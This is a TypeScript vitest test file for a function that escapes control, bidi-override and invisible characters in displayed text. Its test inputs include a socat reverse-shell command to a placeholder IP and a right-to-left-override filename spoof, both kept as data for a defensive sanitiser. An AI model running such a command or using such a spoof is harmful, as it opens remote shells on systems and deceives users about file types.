import { expect, test } from "vitest";
import { inert, runs } from "./inert";

test("what acts on a reader is shown, what does not is left alone", () => {
  expect(inert("socat TCP:203.0.113.7:4444 EXEC:/bin/sh")).toBe("socat TCP:203.0.113.7:4444 EXEC:/bin/sh");
  expect(inert("<b onclick=x>&amp;</b> é 漢 😀")).toBe("<b onclick=x>&amp;</b> é 漢 😀");
  expect(inert("a\u001b[2Jb\tc\nd\u0000")).toBe("a\\x1b[2Jb\\tc\\nd\\x00");
  expect(inert("exe.\u202egpj\u2066x\u200b")).toBe("exe.\\u{202e}gpj\\u{2066}x\\u{200b}");
  expect(inert("\ud800x\udfff")).toBe("\\u{d800}x\\u{dfff}");
  expect(inert("no\u00a0break\u2028line\u3164")).toBe("no\\xa0break\\u{2028}line\\u{3164}");
});

test("escapes are told from text that looks like one", () => {
  expect(runs("\\x1b\u001b")).toEqual([
    { text: "\\x1b", isEscape: false },
    { text: "\\x1b", isEscape: true },
  ]);
});

test("a megabyte takes no time to speak of", () => {
  expect(runs("\u202ea".repeat(500_000)).length).toBe(1_000_000);
});
